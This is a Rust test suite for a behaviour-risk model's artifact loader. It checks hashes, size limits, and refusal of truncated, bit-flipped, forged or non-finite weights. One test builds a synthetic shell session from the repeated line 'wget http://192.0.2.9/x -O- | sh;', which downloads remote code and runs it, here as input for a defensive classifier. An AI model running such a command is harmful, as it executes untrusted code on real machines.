//! The committed artifact, and what is refused in its place.

use std::fs;
use std::path::{Path, PathBuf};

use cordon_behavior::story::Story;
use cordon_model::artifact::{self, Manifest, ModelError, sha256};
use cordon_model::{Model, Part};
use proptest::prelude::*;
use tempfile::TempDir;

const FILES: [&str; 5] = [
    artifact::WEIGHTS,
    artifact::TOKENIZER,
    artifact::CALIBRATION,
    artifact::CARD,
    artifact::MANIFEST,
];
/// The product's bound on the artifact, bytes.
const MOST: u64 = 4 * 1024 * 1024;

fn committed() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("artifact")
}

fn copy() -> TempDir {
    let dir = TempDir::new().expect("a temporary directory can be made");
    for file in FILES {
        fs::copy(committed().join(file), dir.path().join(file)).expect("the artifact is committed");
    }
    dir
}

/// Changes one file, without its hash in the manifest.
fn spoil(file: &str, change: impl FnOnce(&mut Vec<u8>)) -> Result<Model, ModelError> {
    let dir = copy();
    let path = dir.path().join(file);
    let mut bytes = fs::read(&path).expect("it was copied");
    change(&mut bytes);
    fs::write(&path, bytes).expect("it can be written");
    Model::load(dir.path())
}

/// Changes the weights and names them truly in the manifest: as somebody who can write both would.
fn forge(change: impl FnOnce(&mut Vec<u8>)) -> Result<Model, ModelError> {
    let dir = copy();
    let weights = dir.path().join(artifact::WEIGHTS);
    let mut bytes = fs::read(&weights).expect("it was copied");
    change(&mut bytes);
    fs::write(&weights, &bytes).expect("it can be written");
    let path = dir.path().join(artifact::MANIFEST);
    let text = fs::read(&path).expect("it was copied");
    let mut manifest: Manifest = serde_json::from_slice(&text).expect("the manifest is one");
    let entry = manifest
        .files
        .get_mut(artifact::WEIGHTS)
        .expect("it names the weights");
    entry.bytes = bytes.len() as u64;
    entry.sha256 = sha256(&bytes);
    fs::write(&path, serde_json::to_vec(&manifest).expect("it is plain"))
        .expect("it can be written");
    Model::load(dir.path())
}

#[test]
fn the_committed_artifact_is_whole_and_small() {
    let model = Model::load(&committed()).expect("the committed artifact loads");
    assert!(model.id().starts_with("behavior-1@"), "{}", model.id());
    let text = fs::read(committed().join(artifact::MANIFEST)).expect("it is committed");
    let manifest: Manifest = serde_json::from_slice(&text).expect("the manifest is one");
    let mut sum = 0;
    for (name, entry) in &manifest.files {
        let bytes = fs::read(committed().join(name)).expect("what the manifest names is there");
        assert_eq!(sha256(&bytes), entry.sha256, "{name}");
        sum += entry.bytes;
    }
    assert!(manifest.files.contains_key(artifact::CARD));
    assert!(sum <= MOST, "{sum} bytes");
    assert!(
        !manifest.data.is_empty(),
        "the data's hashes are in the manifest"
    );
    for hash in manifest.data.values() {
        assert!(hash.len() == 64, "{hash}");
    }
}

/// A change of what is trained on without training again would leave a card that tells of something else.
#[test]
fn the_committed_artifact_was_trained_on_what_is_committed() {
    let crate_dir = Path::new(env!("CARGO_MANIFEST_DIR"));
    let text = fs::read(committed().join(artifact::MANIFEST)).expect("it is committed");
    let manifest: Manifest = serde_json::from_slice(&text).expect("the manifest is one");
    let places = [
        crate_dir.join("src/train"),
        crate_dir.join("../../tests/recordings"),
    ];
    let mut known = 0;
    for (name, hash) in &manifest.data {
        for path in places
            .iter()
            .map(|place| place.join(name))
            .filter(|path| path.exists())
        {
            let bytes = fs::read(&path).expect("it exists");
            assert_eq!(
                sha256(&bytes),
                *hash,
                "train again: {} has changed",
                path.display()
            );
            known += 1;
        }
    }
    assert!(
        known > 20,
        "only {known} files of the repository were trained on"
    );
}

#[test]
fn a_file_that_is_short_long_or_absent_is_refused_by_name() {
    let error =
        spoil(artifact::WEIGHTS, |bytes| bytes.truncate(bytes.len() / 2)).expect_err("short");
    assert!(
        error.to_string().contains("model.gguf") && error.to_string().contains("bytes"),
        "{error}"
    );
    let error = spoil(artifact::WEIGHTS, |bytes| bytes.resize(9 << 20, 0)).expect_err("huge");
    assert!(error.to_string().contains("at most"), "{error}");
    let error = spoil(artifact::CALIBRATION, |bytes| bytes.push(b' ')).expect_err("long");
    assert!(matches!(error, ModelError::Size { .. }), "{error}");
    let dir = copy();
    fs::remove_file(dir.path().join(artifact::TOKENIZER)).expect("it was copied");
    let error = Model::load(dir.path()).expect_err("absent");
    assert!(error.to_string().contains("tokenizer.json"), "{error}");
}

#[test]
fn weights_that_are_not_finite_are_refused_although_their_hash_is_right() {
    // The first scale of the last quarter: inside of an embedding, which is Q8_0.
    let infinite = 0x7c00u16.to_le_bytes();
    let mut refused = 0;
    for offset in 0..34 {
        let outcome = forge(|bytes| {
            let at = bytes.len() * 3 / 4 + offset;
            bytes[at..at + 2].copy_from_slice(&infinite);
        });
        refused += usize::from(matches!(outcome, Err(ModelError::NotFinite { .. })));
    }
    assert!(refused > 0, "one of 34 places is a block's scale");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 40, ..ProptestConfig::default() })]

    #[test]
    fn one_flipped_bit_of_any_file_is_refused(file in 0..FILES.len(), place in any::<prop::sample::Index>(), bit in 0..8u8) {
        let file = FILES[file];
        let good = Model::load(&committed()).expect("the committed artifact loads");
        match spoil(file, |bytes| { let at = place.index(bytes.len()); bytes[at] ^= 1 << bit; }) {
            Err(error) => prop_assert!(error.to_string().contains("model") || error.to_string().contains("manifest"), "{}", error),
            // The manifest is named by its own hash: a change of what it tells of the training is another model.
            Ok(other) => prop_assert!(file == artifact::MANIFEST && other.id() != good.id(), "{file}"),
        }
    }

    #[test]
    fn a_forged_header_is_an_answer_or_an_error(place in 0..2048usize, value in any::<u8>()) {
        let outcome = forge(|bytes| bytes[place] = value);
        if let Ok(model) = outcome {
            let story = Story::from_json(br#"{"id":"x","command":"ls -l"}"#).expect("a story");
            prop_assert!(model.assess(&story).probability.is_finite());
        }
    }
}

#[test]
fn a_story_of_megabytes_costs_what_the_bound_costs() {
    let model = Model::load(&committed()).expect("the committed artifact loads");
    let story = Story {
        session: vec!["wget http://192.0.2.9/x -O- | sh; ".repeat(200); 2000],
        ..Story::default()
    };
    let input = model.read(&story);
    assert!(input.tokens.len() <= model.shape().tokens);
    let assessment = model.assess_input(&input);
    assert!(assessment.probability.is_finite());
    assert!(matches!(assessment.part, Part::Network | Part::Gate));
}
